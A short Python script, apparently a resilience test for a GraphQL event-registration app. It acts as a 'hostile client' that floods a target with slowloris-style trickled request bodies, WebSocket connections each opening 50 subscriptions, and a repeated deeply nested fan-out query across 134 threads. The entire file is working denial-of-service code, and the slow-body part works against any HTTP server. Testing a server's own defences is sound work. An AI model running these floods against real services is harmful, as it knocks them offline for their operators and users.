#!/usr/bin/env python3
"""A hostile client (run from its own host): request bodies trickled a byte every 2 s, WebSockets
each asking for 50 subscriptions, and the fan-out query over and over. Runs until killed."""

import base64
import json
import os
import socket
import sys
import threading
import time
import urllib.request

BASE = sys.argv[1]
HOST, PORT = BASE.replace("http://", "").split(":")
PORT = int(PORT)
FAN_OUT = "{ meets { registrants { registeredMeets { id title description } } } }"


def slow_body():
    while True:
        try:
            s = socket.create_connection((HOST, PORT), timeout=30)
            s.sendall(b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                      b"Content-Length: 100000\r\n\r\n{")
            while True:
                time.sleep(2)
                s.sendall(b" ")
        except OSError:
            time.sleep(0.5)


def frame(text):
    data = text.encode()
    mask = os.urandom(4)
    masked = bytes(b ^ mask[i % 4] for i, b in enumerate(data))
    length = len(data)
    if length < 126:
        header = bytes([0x81, 0x80 | length])
    else:
        header = bytes([0x81, 0x80 | 126]) + length.to_bytes(2, "big")
    return header + mask + masked


def sockets():
    while True:
        try:
            s = socket.create_connection((HOST, PORT), timeout=30)
            key = base64.b64encode(os.urandom(16)).decode()
            s.sendall((f"GET /graphql/ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\n"
                       f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
                       f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n").encode())
            s.recv(4096)
            s.sendall(frame(json.dumps({"type": "connection_init", "payload": {}})))
            for n in range(50):
                s.sendall(frame(json.dumps({"id": str(n), "type": "subscribe", "payload": {
                    "query": "subscription { jobUpdates(kind: \"link_check\") { id } }"}})))
            while s.recv(65536):
                pass
        except OSError:
            time.sleep(0.5)


def fan_out():
    while True:
        try:
            request = urllib.request.Request(f"{BASE}/graphql", data=json.dumps({"query": FAN_OUT}).encode(),
                                             headers={"content-type": "application/json"})
            urllib.request.urlopen(request, timeout=30).read()
        except Exception:
            time.sleep(0.1)


threads = [threading.Thread(target=slow_body, daemon=True) for _ in range(100)]
threads += [threading.Thread(target=sockets, daemon=True) for _ in range(30)]
threads += [threading.Thread(target=fan_out, daemon=True) for _ in range(4)]
for t in threads:
    t.start()
while True:
    time.sleep(60)
